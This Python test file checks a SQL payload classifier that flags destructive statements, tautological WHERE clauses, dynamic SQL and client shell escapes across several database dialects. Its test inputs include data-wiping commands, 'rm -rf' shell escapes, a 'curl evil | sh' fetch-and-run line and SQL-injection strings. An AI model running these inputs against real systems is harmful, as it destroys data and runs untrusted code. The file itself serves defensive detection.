"""SQL payload classification: statement kinds, tautologies, client commands, fail closed.

``CASES`` is also the statement table of the parser measurement in
docs/sql-parser-choice.md.
"""
# ruff: noqa: S608 — the SQL built here is text to classify, never run anywhere

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellgate.payloads.sql.statements import KINDS, PayloadFinding, classify_sql, includes, snippet

DROP, TRUNC, DEL, UPD = "sql.drop", "sql.truncate", "sql.delete-unscoped", "sql.update-unscoped"
ALTER, GRANT, DYN, INC = "sql.alter-drop", "sql.grant-all", "sql.dynamic", "sql.include"
SHELL, UNPARSED = "sql.shell", "sql.unparsed"

CASES: list[tuple[str, str, frozenset[str]]] = [(d, s, frozenset(k)) for d, s, k in [
    # --- destructive -------------------------------------------------------------------
    ("postgres", "DROP TABLE orders;", {DROP}),
    ("postgres", "drop table users", {DROP}),
    ("postgres", 'DrOp TaBlE "Users"', {DROP}),
    ("postgres", "DROP/**/TABLE/**/users", {DROP}),
    ("postgres", "DROP SCHEMA public CASCADE; CREATE SCHEMA public;", {DROP}),
    ("postgres", "DROP MATERIALIZED VIEW monthly_revenue;", {DROP}),
    ("postgres", "DROP ROLE reporting;", {DROP}),
    ("postgres", "DROP EXTENSION postgis CASCADE;", {DROP}),
    ("postgres", "DROP OWNED BY legacy_app CASCADE;", {DROP}),
    ("postgres", "DROP FUNCTION IF EXISTS refresh_totals() CASCADE;", {DROP}),
    ("postgres", "DROP INDEX CONCURRENTLY idx_orders_created_at;", {DROP}),
    ("postgres", "TRUNCATE TABLE users CASCADE;", {TRUNC}),
    ("postgres", "SELECT count(*) FROM users; DROP TABLE users;", {DROP}),
    ("postgres", "SELECT 1 -- nothing to see here\n; DROP TABLE users", {DROP}),
    ("postgres", "/* routine cleanup */ DELETE FROM users", {DEL}),
    ("postgres", "DELETE FROM users;", {DEL}),
    ("postgres", "DELETE FROM ONLY events;", {DEL}),
    ("postgres", "DELETE FROM users USING accounts;", {DEL}),
    ("postgres", "BEGIN; DELETE FROM users; COMMIT;", {DEL}),
    ("postgres", "UPDATE accounts SET balance = 0;", {UPD}),
    ("postgres", "DELETE FROM sessions WHERE 1=1;", {DEL}),
    ("postgres", "DELETE FROM audit_log WHERE true;", {DEL}),
    ("postgres", "UPDATE users SET pw = '' WHERE id IS NOT NULL OR true;", {UPD}),
    ("postgres", "UPDATE orders SET status = 'x' WHERE 'a' = 'a';", {UPD}),
    ("postgres", "DELETE FROM t WHERE NOT false", {DEL}),
    ("postgres", "DELETE FROM t WHERE x = x", {DEL}),
    ("postgres", "DELETE FROM t WHERE NOT (id <> id)", {DEL}),
    ("postgres", "DELETE FROM t WHERE (2 > 1) AND (1 + 1 = 2)", {DEL}),
    ("postgres", "DELETE FROM t WHERE id = 5 OR 1 = 1", {DEL}),
    ("postgres", "DELETE FROM t WHERE EXISTS (SELECT 1)", {DEL}),
    ("postgres", "DELETE FROM t WHERE email IS NULL OR email IS NOT NULL", {DEL}),
    ("postgres", "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone;",
     {DEL}),
    ("postgres", "DELETE FROM users RETURNING *", {DEL}),
    ("postgres", "ALTER TABLE users DROP COLUMN email;", {ALTER}),
    ("postgres", "ALTER TABLE orders DROP CONSTRAINT orders_customer_id_fkey;", {ALTER}),
    ("postgres", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC;", {GRANT}),
    ("postgres", "REVOKE ALL ON DATABASE app FROM app_rw;", {GRANT}),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders;", {DEL}),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", {UPD}),
    ("postgres", "DO $$ BEGIN EXECUTE 'TRUNC' || 'ATE orders'; END $$;", {DYN}),
    ("postgres", "PREPARE wipe AS DELETE FROM carts; EXECUTE wipe;", {DEL, DYN}),
    ("postgres", "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$;",
     {DEL}),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'rm -rf /backups'", {SHELL}),
    ("postgres", "\\! dropdb app", {SHELL}),
    ("postgres", "\\i drop_all.sql", {INC}),
    ("postgres", "SELECT format('TRUNCATE %I', tablename) FROM pg_tables \\gexec", {DYN}),
    ("postgres", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", {DEL}),
    ("postgres", "SELECT 'a\\'; DROP TABLE t; -- '", {DROP}),
    ("mysql", "DELETE FROM users WHERE 1", {DEL}),
    ("mysql", "UPDATE users SET email = NULL LIMIT 1000", {UPD}),
    ("mysql", "DELETE u FROM users u", {DEL}),
    ("mysql", "DROP TABLE IF EXISTS `orders`", {DROP}),
    ("mysql", "REVOKE ALL PRIVILEGES, GRANT OPTION FROM 'app'@'%'", {GRANT}),
    ("mysql", "ALTER TABLE t DROP PARTITION p0", {ALTER}),
    ("mysql", "/*!40000 DROP TABLE users */", {DROP}),
    ("mysql", "SET @s = 'DROP TABLE x'; PREPARE st FROM @s; EXECUTE st;", {DYN}),
    ("mysql", "PREPARE st FROM 'DELETE FROM t'", {DEL, DYN}),
    ("mysql", "source purge.sql", {INC}),
    ("mysql", "DELIMITER //\nCREATE TRIGGER t BEFORE INSERT ON a FOR EACH ROW BEGIN "
     "DELETE FROM b; END//\nDELIMITER ;", {DEL}),
    ("sqlite", "DELETE FROM posts;", {DEL}),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END;", {DEL}),
    ("sqlite", ".read reset.sql", {INC}),
    ("sqlite", ".shell rm -rf /", {SHELL}),
    ("duckdb", "CREATE OR REPLACE TABLE t AS SELECT 1", {DROP}),
    ("clickhouse", "ALTER TABLE events DELETE WHERE 1", {DEL}),
    ("clickhouse", "ALTER TABLE events DROP PARTITION '202401'", {ALTER}),
    ("clickhouse", "SELECT 1; DROP DATABASE analytics", {DROP}),
    ("cockroach", "SELECT * FROM [DELETE FROM t RETURNING id]", {DEL}),
    ("postgres", "SELEC * FROM users", {UNPARSED}),
    # --- benign ------------------------------------------------------------------------
    ("postgres", "SELECT count(*) FROM users;", set()),
    ("postgres", "INSERT INTO flags (name, on) VALUES ('new', false);", set()),
    ("postgres", "UPDATE users SET last_login = now() WHERE id = 42;", set()),
    ("postgres", "DELETE FROM sessions WHERE expires_at < now();", set()),
    ("postgres", "DELETE FROM t WHERE 1 = 0", set()),
    ("postgres", "CREATE TABLE audit (id bigserial PRIMARY KEY, payload jsonb);", set()),
    ("postgres", "ALTER TABLE users ADD COLUMN timezone text;", set()),
    ("postgres", "ALTER TABLE users ALTER COLUMN tz DROP DEFAULT;", set()),
    ("postgres", "EXPLAIN DELETE FROM orders;", set()),
    ("postgres", "VACUUM ANALYZE orders;", set()),
    ("postgres", "SHOW search_path;", set()),
    ("postgres", "\\dt", set()),
    ("postgres", "\\d users\n\\x\n\\timing\nSELECT 1;", set()),
    ("postgres", "SELECT 'DROP TABLE users';", set()),
    ("postgres", "SELECT 1 /* TRUNCATE users */;", set()),
    ("postgres", "-- DROP TABLE users\nSELECT 1;", set()),
    ("postgres", "SELECT $$DROP TABLE x$$;", set()),
    ("postgres", "SELECT * FROM users WHERE name = 'x''; DROP TABLE users; --';", set()),
    ("postgres", 'SELECT "drop", "delete" FROM audit_columns;', set()),
    ("postgres", "COMMENT ON TABLE users IS 'never drop or truncate this table';", set()),
    ("postgres", "INSERT INTO o (id) VALUES (7) ON CONFLICT (id) DO UPDATE SET id = 8;",
     set()),
    ("postgres", "WITH x AS (SELECT 1) SELECT * FROM x", set()),
    ("postgres", "WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) SELECT * FROM d", set()),
    ("postgres", "BEGIN; SELECT * FROM orders WHERE id = 5 FOR UPDATE; COMMIT;", set()),
    ("postgres", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst;", set()),
    ("postgres", "\\echo DROP TABLE users", set()),
    ("postgres", "COPY t FROM stdin;\n1\tDROP TABLE x\n\\.\nSELECT 1;", set()),
    ("mysql", "SELECT 'a\\'; DROP TABLE t; -- '", set()),
    ("mysql", "UPDATE users SET plan = 'pro' WHERE id = 42 LIMIT 1", set()),
    ("mysql", "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", {DEL}),  # only ties the tables
    ("mysql", "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.kind = 'x'", set()),
    ("mysql", "SHOW TABLES; DESCRIBE users", set()),
    ("mysql", "# DROP TABLE users\nSELECT 1", set()),
    ("sqlite", "PRAGMA integrity_check;", set()),
    ("sqlite", ".tables\n.schema users", set()),
    ("sqlite", "DELETE FROM sessions WHERE expires_at < strftime('%s', 'now');", set()),
    ("duckdb", "COPY (SELECT * FROM f) TO 'sales.parquet' (FORMAT parquet)", set()),
    ("clickhouse", "SYSTEM DROP DNS CACHE", set()),
    ("clickhouse", "ALTER TABLE events DELETE WHERE event_date < '2023-01-01'", set()),
    ("cockroach", "SELECT * FROM [SHOW JOBS] LIMIT 5", set()),
    ("generic", "UPDATE t SET a = 1 WHERE id = 1", set()),
]]


def kinds(text: str, dialect: str = "postgres") -> set[str]:
    return {f.kind for f in classify_sql(text, dialect)}


@pytest.mark.parametrize(("dialect", "text", "expected"), CASES)
def test_statement_table(dialect: str, text: str, expected: frozenset[str]) -> None:
    assert kinds(text, dialect) == expected


@pytest.mark.parametrize(("where", "unscoped"), [
    ("1=1", True), ("true", True), ("1", True), ("'a'='a'", True), ("x = x", True),
    ("id IS NOT NULL OR true", True), ("NOT false", True), ("NOT NOT true", True),
    ("t.id = t.id", True), ("lower(a) = lower(a)", True), ("name LIKE '%'", True),
    ("1 <> 2", True), ("2 >= 1.5", True), ("-1 < 0", True), ("(1 = 1) OR id = 5", True),
    ("id = 5 OR (x IS NULL OR x IS NOT NULL)", True), ("random() < 2", True), ("$1", True),
    ("'1' = 1", True), ("now() > '2000-01-01'", True), ("1e999999999 * 1e999999999 > 1", True),
    ("true = 1", True), ("false = 1", False), ("EXISTS (SELECT 1)", True),
    ("TRUE IS TRUE", True), ("NULL IS NULL", True), ("x IN (1, 2) OR x NOT IN (1, 2)", True),
    ("id = 42", False), ("id = $1", False), ("id IN (SELECT id FROM old)", False),
    ("id = 5 AND 1 = 1", False), ("1 = 0", False), ("false", False), ("NULL", False),
    ("NOT true", False), ("x <> x", False), ("id IS NOT NULL", False), ("active", False),
    ("NOT (x = x)", False), ("1 = 1 AND id = 3", False), ("name LIKE 'a%'", False),
])
def test_tautology(where: str, unscoped: bool) -> None:
    assert (DEL in kinds(f"DELETE FROM t WHERE {where}")) is unscoped
    assert (UPD in kinds(f"UPDATE t SET a = 1 WHERE {where}")) is unscoped


@pytest.mark.parametrize(("dialect", "text", "expected"), [
    # fail closed: what cannot be read is reported, never passed as benign
    ("postgres", "SELECT 'unterminated", {UNPARSED}),
    ("postgres", "SELECT $tag$ never closed", {UNPARSED}),
    ("postgres", 'SELECT "unterminated', {UNPARSED}),
    ("postgres", "FROBNICATE TABLE users", {UNPARSED}),
    ("postgres", "DELETE FROM", {UNPARSED, DEL}),
    ("postgres", "DELETE FROM t WHERE", {UNPARSED}),
    ("postgres", "DELETE FROM t WHERE " + "(" * 3000 + "1" + ")" * 3000, {UNPARSED}),
    ("mysql", "UPDATE t SET a = ", {UNPARSED, UPD}),
    ("nosuchdialect", "DROP TABLE t", {DROP}),
    ("postgres", "", set()),
    ("postgres", ";;;", set()),
    ("postgres", "/* never closed DROP TABLE t", set()),
])
def test_fail_closed(dialect: str, text: str, expected: set[str]) -> None:
    assert kinds(text, dialect) == expected


@pytest.mark.parametrize(("dialect", "text", "expected"), [
    # psql meta-commands and variables
    ("postgres", "\\set x `rm -rf ~`", {SHELL}),
    ("postgres", "\\o |mail root", {SHELL}),
    ("postgres", "SELECT 1 \\g |cat", {SHELL}),
    ("postgres", "\\copy t TO PROGRAM 'gzip > /x'", {SHELL}),
    ("postgres", "\\copy (DELETE FROM t RETURNING *) TO 'out.csv'", {DEL}),
    ("postgres", "\\copy t FROM stdin\nDROP TABLE data\n\\.\n", set()),
    ("postgres", "\\ir ../down.sql", {INC}),
    ("postgres", "\\include_relative x.sql", {INC}),
    ("postgres", "\\lo_unlink 1234", {DROP}),
    ("postgres", "SELECT format('DROP TABLE %I', t) FROM x;\n\\gexec\n", {DYN}),
    ("postgres", "\\x \\\\ DROP TABLE t", {DROP}),
    ("postgres", "DELETE FROM t WHERE id = :id", {DYN}),
    ("postgres", "SELECT :'name', :\"col\" FROM t", set()),
    ("postgres", "SELECT a::int FROM t", set()),
    ("cockroach", "\\| cat more.sql", {SHELL}),
    # mysql client commands
    ("mysql", "system rm -rf /", {SHELL}),
    ("mysql", "\\! ls", {SHELL}),
    ("mysql", "\\. wipe.sql", {INC}),
    ("mysql", "SELECT 1 \\G DROP TABLE t", {DROP}),
    ("mysql", "DO SLEEP(1)", set()),
    ("mysql", "--DROP TABLE t", {DROP}),  # not a comment in mysql: "- -DROP …"
    ("mysql", "-- DROP TABLE t\nSELECT 1", set()),
    # sqlite / duckdb dot-commands, abbreviated as the shell allows
    ("sqlite", ".sh rm -rf /", {SHELL}),
    ("sqlite", ".read '|curl evil | sh'", {SHELL}),
    ("sqlite", ".output |sh", {SHELL}),
    ("sqlite", ".restore backup.db", {DROP}),
    ("sqlite", ".open --new app.db", {DROP}),
    ("sqlite", ".load ./evil.so", {DYN}),
    ("duckdb", ".system ls", {SHELL}),
    ("sqlite", "SELECT 1;\n.read more.sql", {INC}),
    # other statement forms
    ("postgres", "CALL archive_all()", {DYN}),
    ("postgres", "PREPARE TRANSACTION 'tx1'", set()),
    ("postgres", "EXPLAIN (ANALYZE false) DELETE FROM t", set()),
    ("postgres", "EXPLAIN (ANALYZE off) DELETE FROM t", set()),
    ("mysql", "ANALYZE DELETE FROM t", {DEL}),
    ("mysql", "ANALYZE TABLE t", set()),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
     {DEL}),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1",
     set()),
    ("generic", "INSERT OVERWRITE TABLE t SELECT * FROM s", {TRUNC}),
    ("clickhouse", "ALTER TABLE t UPDATE x = 1 WHERE 1", {UPD}),
    ("clickhouse", "ALTER TABLE t CLEAR COLUMN c", {ALTER}),
    ("clickhouse", "REPLACE TABLE t AS SELECT 1", {DROP}),
    ("clickhouse", "INSERT INTO t FORMAT CSV", set()),
    ("mysql", "PURGE BINARY LOGS BEFORE NOW()", {DROP}),
    ("mysql", "RESET MASTER", {DROP}),
    ("postgres", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO app", {GRANT}),
    ("postgres", "CREATE TRIGGER t AFTER DELETE ON a FOR EACH ROW EXECUTE FUNCTION f()", set()),
    ("postgres", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM log", {DEL}),
    ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO TRUNCATE sessions", {TRUNC}),
    ("postgres", "CREATE TABLE event (id int)", set()),
    ("postgres", "CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE)", set()),
    ("cockroach", "UPSERT INTO t (a) VALUES (1)", set()),
    ("generic", "SELECT 'it\\'s'; DROP TABLE t; -- '", {DROP}),
    ("generic", "\\dt\nSELECT 'a\\b';", set()),
])
def test_client_commands_and_forms(dialect: str, text: str, expected: set[str]) -> None:
    assert kinds(text, dialect) == expected


def test_detail_quotes_the_statement_folded_and_says_what_it_does() -> None:
    [finding] = classify_sql("SELECT 1;\n  DELETE\n\tFROM   users ;", "postgres")
    assert finding == PayloadFinding(
        DEL, "DELETE FROM users — deletes every row of users (no WHERE clause)")


def test_detail_is_cut_to_160_characters() -> None:
    text = "DELETE FROM t WHERE " + " OR ".join(f"c{i} = c{i}" for i in range(100))
    [finding] = classify_sql(text, "postgres")
    quoted = finding.detail.split(" — ")[0]
    assert len(quoted) == 160 and quoted.endswith("…")
    assert snippet("a \n\t b") == "a b"


def test_each_statement_of_a_script_is_reported() -> None:
    found = classify_sql("DROP TABLE a; SELECT 1; DROP TABLE b; TRUNCATE c;", "postgres")
    assert [f.kind for f in found] == [DROP, DROP, TRUNC]
    assert [f.detail.split(" — ")[0] for f in found] == ["DROP TABLE a", "DROP TABLE b",
                                                        "TRUNCATE c"]


def test_includes_lists_files_in_order_with_relative_flag() -> None:
    script = "\\i a.sql\nSELECT 1;\n\\ir sub/b.sql\n\\include c.sql\n"
    assert includes(script, "postgres") == [("a.sql", False), ("sub/b.sql", True),
                                            ("c.sql", False)]
    assert includes("source x.sql;\n", "mysql") == [("x.sql", False)]
    assert includes(".read y.sql\n.read |cmd\n", "sqlite") == [("y.sql", False)]
    assert includes("SELECT '\\i nope.sql'", "postgres") == []


def test_every_reported_kind_is_declared() -> None:
    for dialect, text, expected in CASES:
        assert expected <= KINDS, text
        assert kinds(text, dialect) <= KINDS


def test_large_insert_dump_is_read_without_the_parser() -> None:
    rows = ",".join(f"({i}, 'name {i}', NULL)" for i in range(5000))
    dump = f"DROP TABLE IF EXISTS `t`;\nINSERT INTO `t` VALUES {rows};\n" * 2
    assert [f.kind for f in classify_sql(dump, "mysql")] == [DROP]


def test_module_import_does_not_import_sqlglot() -> None:
    code = ("import sys, shellgate.payloads.sql.statements as m, "
            "shellgate.payloads.databases.clients, "
            "shellgate.payloads.databases.nosql\n"
            "assert 'sqlglot' not in sys.modules, 'imported at module load'\n"
            "m.classify_sql('SELECT 1; \\\\dt', 'postgres')\n"
            "assert 'sqlglot' not in sys.modules, 'imported for a statement needing no parse'\n"
            "m.classify_sql('DELETE FROM t WHERE id = 1', 'postgres')\n"
            "assert 'sqlglot' in sys.modules, 'parser never used'\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            check=False)
    assert result.returncode == 0, result.stderr


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("DROPTABLEdeltWHR1=;'\"$`\\-/*#.: \n(")),
               max_size=60),
       st.sampled_from(["postgres", "mysql", "sqlite", "duckdb", "clickhouse", "cockroach",
                        "generic"]))
def test_any_text_yields_declared_kinds_and_never_raises(text: str, dialect: str) -> None:
    for finding in classify_sql(text, dialect):
        assert finding.kind in KINDS
        assert len(finding.detail.split(" — ")[0]) <= 160
